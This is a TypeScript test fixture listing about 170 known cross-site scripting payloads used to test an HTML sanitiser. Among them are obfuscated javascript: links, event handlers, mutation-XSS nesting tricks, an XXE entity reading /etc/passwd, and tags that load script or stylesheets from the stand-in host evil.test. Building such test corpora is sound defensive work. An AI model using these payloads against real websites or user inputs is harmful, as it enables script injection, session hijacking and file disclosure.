/** Known XSS payloads, one per line, for the tests of the sanitiser. */
export const xssCorpus: string[] = String.raw`
<script>alert(1)</script>
<SCRIPT SRC=//evil.test/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script >
<script>alert(1)
<<script>alert(1)//<</script>
<script type="text/plain"></script><img src=x onerror=alert(1)>
<img src=x onerror=alert(1)>
<img src=x onerror=alert(1)//
<img/src/onerror=alert(1)>
<img src="x" oNeRrOr="alert(1)">
<img src='x'onerror='alert(1)'>
<img src=x onerror&#61;alert(1)>
<img """><script>alert(1)</script>">
<img src="javascript:alert(1)">
<img src="data:image/svg+xml,<svg onload=alert(1)>">
<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<img srcset="javascript:alert(1) 1x" src="/a.png">
<img src="/a.png" alt="--><script>alert(1)</script>">
<img src="/a.png" alt='"><img src=x onerror=alert(1)>'>
<img src="/a.png" width="1 onerror=alert(1)" height="&quot;onload=alert(1)">
<img src=https://evil.test/&quot;onerror=&quot;alert(1)>
<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">
<image src=x onerror=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="java&#9;script:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&NewLine;script&colon;alert(1)">x</a>
<a href="javascript&#58;alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>
<a href="&#0000106&#0000097&#0000118ascript:alert(1)">x</a>
<a href="java&#0;script:alert(1)">x</a>
<a href="java&Tab;scr&NewLine;ipt:alert(1)">x</a>
<a href="&#8232;javascript:alert(1)">x</a>
<a href="&nbsp;javascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="livescript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="DATA:text/html;base64,PHNjcmlwdD4=">x</a>
<a href="blob:https://shop.test/1">x</a>
<a href="file:///etc/passwd">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="intent://x#Intent;scheme=javascript;end">x</a>
<a href="//evil.test">x</a>
<a href="/\evil.test">x</a>
<a href="\\evil.test">x</a>
<a href="https:evil.test">x</a>
<a href="x" onclick=alert(1) onmouseover="alert(1)" onfocus=alert(1) autofocus tabindex=0>x</a>
<a href="/x" style="position:fixed;inset:0" class="fixed" id="root" target="_top" download>x</a>
<a href="https://evil.test" rel="opener" target="_blank">x</a>
<a href='"><script>alert(1)</script>'>x</a>
<a href="javascript:alert(1)" href="/fine">x</a>
<a href=/fine href=javascript:alert(1)>x</a>
<a xlink:href="javascript:alert(1)">x</a>
<a href="/x" ping="https://evil.test">x</a>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script href="data:,alert(1)" /></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate attributeName=href values=javascript:alert(1)></svg>
<svg><set attributeName=onmouseover to=alert(1)></svg>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>
<svg><style><img src="</style><img src=x onerror=alert(1)>"></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>
<svg><title><style><img src="</style></title><img src=x onerror=alert(1)>"></svg>
<svg><desc><noscript><img src="</noscript><img src=x onerror=alert(1)>"></desc></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=alert(1)>">
<math><annotation-xml encoding="text/html"><style><img src="</style><img src=x onerror=alert(1)>"></math>
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline#javascript:alert(1)" xlink:href="javascript:alert(1)">x</maction></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noscript><style></noscript><img src=x onerror=alert(1)></style>
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>
<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>
<plaintext><img src=x onerror=alert(1)>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<textarea></textarea/><img src=x onerror=alert(1)>
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>
<iframe src=//evil.test>
<template><img src=x onerror=alert(1)></template>
<template><s><template><s><img src=x onerror=alert(1)></s></template></s></template>
<select><template><style><!--</style><img src=x onerror=alert(1)>--></template></select>
<select><option><style></option></select><img src=x onerror=alert(1)></style>
<style>@import "//evil.test/x.css";</style>
<style><!--</style><img src=x onerror=alert(1)>--></style>
<style>*{background:url("javascript:alert(1)")}
<link rel=stylesheet href=//evil.test/x.css>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<base href="javascript:/a/-alert(1)//">
<object data="javascript:alert(1)"></object>
<object><param name=movie value="//evil.test"></object>
<embed src="javascript:alert(1)">
<applet code=x></applet>
<form action="javascript:alert(1)"><button>x</button></form>
<button formaction=javascript:alert(1)>x</button>
<input onfocus=alert(1) autofocus>
<isindex action=javascript:alert(1) type=image>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<body onload=alert(1)>
<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>
<table><td><style><img src="</style><img src=x onerror=alert(1)>"></td></table>
<td colspan="1&quot; onmouseover=&quot;alert(1)">x</td>
<div style="background:url(javascript:alert(1))">x</div>
<div style="width:expression(alert(1))">x</div>
<div onpointerrawupdate=alert(1)>x</div>
<p id="getElementById" name="body">x</p>
<p/onmouseover=alert(1)>x
<p onmouseover
=alert(1)>x</p>
<p title="<script>alert(1)</script>">x</p>
<p ${"`"}onmouseover=alert(1)${"`"}>x</p>
<custom-element onclick=alert(1) is="x">x</custom-element>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<!--><img src=x onerror=alert(1)>-->
<!--[if IE]><script>alert(1)</script><![endif]-->
<!-- --!><img src=x onerror=alert(1)> -->
<!-- <img src="--><img src=x onerror=alert(1)>">
<![CDATA[<img src=x onerror=alert(1)>]]>
<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><p>&y;</p>
<?xml-stylesheet href="javascript:alert(1)"?><img src=x onerror=alert(1)>
<?php <img src=x onerror=alert(1)> ?>
</script><script>alert(1)</script>
</p></div></textarea></style><img src=x onerror=alert(1)>
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
&#60;img src=x onerror=alert(1)&#62;
<p>&lt;img src=x onerror=alert(1)&gt;</p>
＜script＞alert(1)＜/script＞
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
{{constructor.constructor('alert(1)')()}}
<a href="https://evil.test/?<script>alert(1)</script>">x</a>
<a href="mailto:x@y.test?subject=<script>alert(1)</script>&bcc=all@y.test">x</a>
<a
`
  .split("\n")
  .filter(Boolean);
